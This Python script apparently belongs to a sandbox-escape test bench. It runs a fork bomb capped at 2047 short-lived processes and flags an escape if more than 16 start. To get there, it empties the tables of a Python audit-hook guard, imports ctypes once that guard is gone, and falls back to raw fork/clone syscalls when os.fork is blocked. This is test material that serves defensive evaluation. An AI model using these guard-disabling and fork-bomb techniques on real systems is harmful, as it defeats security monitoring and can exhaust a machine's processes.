"""bomb: a fork bomb (os.fork, then raw fork/clone syscalls), each process forking twice more.

Capped at a tree of 2047 processes that exit after a second, so that even a sandbox that lets
it through does not take the machine down; more than 16 processes counts as an escape (the
limit every run has). The bench never runs this unconfined.
"""

import os
import signal
import sys
import time

_guard = vars(sys.modules["__main__"])
if "_BLOCKED" in _guard:  # a Python audit hook keeps its tables there: empty them first
    _guard["_BLOCKED"], _guard["_ROOT"] = (), ""

# ctypes is audited on import (ctypes.dlopen): import it once the guard is gone.
import ctypes  # noqa: E402

libc = ctypes.CDLL(None, use_errno=True)
RAW = {"x86_64": (57,), "aarch64": (220, signal.SIGCHLD, 0, 0, 0, 0)}.get(os.uname().machine)
r, w = os.pipe()


def fork():
    try:
        return os.fork()
    except OSError:
        pass
    if RAW is not None:
        pid = libc.syscall(*RAW)
        if pid >= 0:
            return pid
    return libc.fork()


def bomb(depth):
    for _ in range(2):
        pid = fork()
        if pid < 0:
            return
        if pid == 0:
            os.write(w, b"x")
            if depth < 10:
                bomb(depth + 1)
            time.sleep(1)
            os._exit(0)


bomb(0)
os.close(w)
os.set_blocking(r, False)
count = 0
deadline = time.monotonic() + 1.5
while time.monotonic() < deadline:
    try:
        chunk = os.read(r, 65536)
    except BlockingIOError:
        time.sleep(0.02)
        continue
    if not chunk:
        break
    count += len(chunk)
print(f"{count} processes started")
if count > 16:
    print(f"ESCAPED: the fork bomb made {count} processes")
